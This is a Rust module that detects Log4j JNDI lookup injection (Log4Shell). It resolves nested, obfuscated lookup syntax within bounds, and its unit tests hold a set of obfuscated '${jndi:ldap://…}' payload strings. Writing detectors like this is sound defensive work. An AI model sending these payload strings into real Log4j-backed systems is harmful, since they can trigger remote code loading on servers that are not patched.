//! A bounded evaluator of Log4j 2 lookup syntax (`${prefix:key:-default}`).
//!
//! Attackers hide `${jndi:` behind nested lookups that Log4j resolves before
//! the JNDI lookup runs: `${${lower:j}ndi:…}`, `${${::-j}${::-n}di:…}`,
//! `${${env:NOPE:-j}ndi:…}`, `${${date:'j'}ndi:…}`. The evaluator resolves
//! `lower`, `upper`, `date:'literal'` and any lookup with a `:-` default
//! (the default wins, because the attacker picks a key that does not
//! exist), and leaves other lookups as written. A body that resolves to
//! `jndi:…` at any level is a JNDI lookup.
//!
//! # Limits
//! - Nesting deeper than `MAX_DEPTH` is read as literal text.
//! - Each level keeps the first `BUF_LEN` bytes of its resolved body (only
//!   the prefix matters to the verdict).
//! - Every byte of the value is visited once: linear time, no allocation
//!   (buffers live on the stack, `MAX_DEPTH × BUF_LEN` bytes at most).

/// Deepest nesting of `${` resolved.
pub const MAX_DEPTH: usize = 8;
/// Bytes of a resolved body kept per level.
pub const BUF_LEN: usize = 96;

/// A fixed-capacity byte buffer that silently drops bytes past its capacity.
pub(crate) struct Buf {
    data: [u8; BUF_LEN],
    len: usize,
}

impl Buf {
    pub(crate) fn new() -> Buf {
        Buf {
            data: [0; BUF_LEN],
            len: 0,
        }
    }
    fn push(&mut self, c: u8) {
        if self.len < BUF_LEN {
            self.data[self.len] = c;
            self.len += 1;
        }
    }
    fn extend(&mut self, s: &[u8]) {
        for &c in s {
            self.push(c);
        }
    }
    pub(crate) fn as_bytes(&self) -> &[u8] {
        &self.data[..self.len]
    }
}

/// The result of evaluating one top-level lookup.
pub(crate) struct Lookup {
    /// Index just past the closing `}` (or the end of the value).
    pub end: usize,
    /// Whether some level resolved to a body starting with `jndi:`.
    pub jndi: bool,
    /// Whether a nested lookup had to be resolved to get there.
    pub nested: bool,
}

/// Evaluates the lookup whose `${` starts at `start`.
pub(crate) fn evaluate(b: &[u8], start: usize) -> Lookup {
    let mut out = Buf::new();
    let mut st = State {
        jndi: false,
        nested: false,
    };
    let end = eval(b, start + 2, 0, &mut out, &mut st);
    Lookup {
        end,
        jndi: st.jndi,
        nested: st.nested,
    }
}

struct State {
    jndi: bool,
    nested: bool,
}

/// Evaluates a body starting at `i` (just past `${`), appends its value to
/// `out`, returns the index past its `}`. Recursion depth is bounded by
/// `MAX_DEPTH`.
fn eval(b: &[u8], mut i: usize, depth: usize, out: &mut Buf, st: &mut State) -> usize {
    let mut body = Buf::new();
    while i < b.len() {
        match b[i] {
            b'$' if b.get(i + 1) == Some(&b'{') && depth < MAX_DEPTH => {
                st.nested = true;
                i = eval(b, i + 2, depth + 1, &mut body, st);
            }
            b'}' => {
                resolve(body.as_bytes(), out, st);
                return i + 1;
            }
            c => {
                body.push(c);
                i += 1;
            }
        }
    }
    // Unclosed (or cut) lookup: still judge what it would have named.
    if starts_with_jndi(body.as_bytes()) {
        st.jndi = true;
    }
    out.extend(b"${");
    out.extend(body.as_bytes());
    i
}

fn starts_with_jndi(body: &[u8]) -> bool {
    let t = body.trim_ascii_start();
    t.len() >= 5 && t[..5].eq_ignore_ascii_case(b"jndi:")
}

fn resolve(body: &[u8], out: &mut Buf, st: &mut State) {
    if starts_with_jndi(body) {
        st.jndi = true;
    }
    let Some(colon) = memchr::memchr(b':', body) else {
        out.extend(b"${");
        out.extend(body);
        out.push(b'}');
        return;
    };
    let (prefix, rest) = (body[..colon].trim_ascii(), &body[colon + 1..]);
    if prefix.eq_ignore_ascii_case(b"lower") {
        rest.iter().for_each(|c| out.push(c.to_ascii_lowercase()));
    } else if prefix.eq_ignore_ascii_case(b"upper") {
        // Java's toUpperCase maps dotless ı to I and long ſ to S.
        let mut k = 0;
        while k < rest.len() {
            match rest[k..] {
                [0xC4, 0xB1, ..] => (out.push(b'I'), k += 2).1,
                [0xC5, 0xBF, ..] => (out.push(b'S'), k += 2).1,
                [c, ..] => (out.push(c.to_ascii_uppercase()), k += 1).1,
                [] => break,
            }
        }
    } else if let Some(d) = memchr::memmem::find(body, b":-") {
        out.extend(&body[d + 2..]);
    } else if prefix.eq_ignore_ascii_case(b"date") {
        rest.iter()
            .filter(|&&c| c != b'\'')
            .for_each(|&c| out.push(c));
    } else {
        out.extend(b"${");
        out.extend(body);
        out.push(b'}');
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn jndi(s: &str) -> bool {
        evaluate(s.as_bytes(), s.find("${").expect("lookup")).jndi
    }

    #[test]
    fn resolves_obfuscations() {
        assert!(jndi("${jndi:ldap://x/a}"));
        assert!(jndi("${${lower:j}ndi:ldap://x/a}"));
        assert!(jndi("${${lower:J}${upper:n}di:rmi://x/a}"));
        assert!(jndi("${${::-j}${::-n}${::-d}${::-i}:ldap://x}"));
        assert!(jndi("${${env:NaN:-j}ndi${env:NaN:-:}ldap://x}"));
        assert!(jndi("${${date:'j'}ndi:dns://x}"));
        assert!(jndi("${x:-${jndi:ldap://x}}"));
        assert!(jndi("${ jndi:ldap://cut"));
        assert!(jndi("${jnd${upper:\u{131}}:ldap://x}"));
    }

    #[test]
    fn placeholders_are_not_jndi() {
        assert!(!jndi("${HOME}/data"));
        assert!(!jndi("${price}"));
        assert!(!jndi("${user.name:-guest}"));
        assert!(!jndi("${lower:JNDIX}"));
    }

    #[test]
    fn deep_nesting_is_bounded() {
        let s = "${".repeat(10_000) + "jndi:x" + &"}".repeat(10_000);
        let l = evaluate(s.as_bytes(), 0);
        assert!(l.end <= s.len());
    }
}
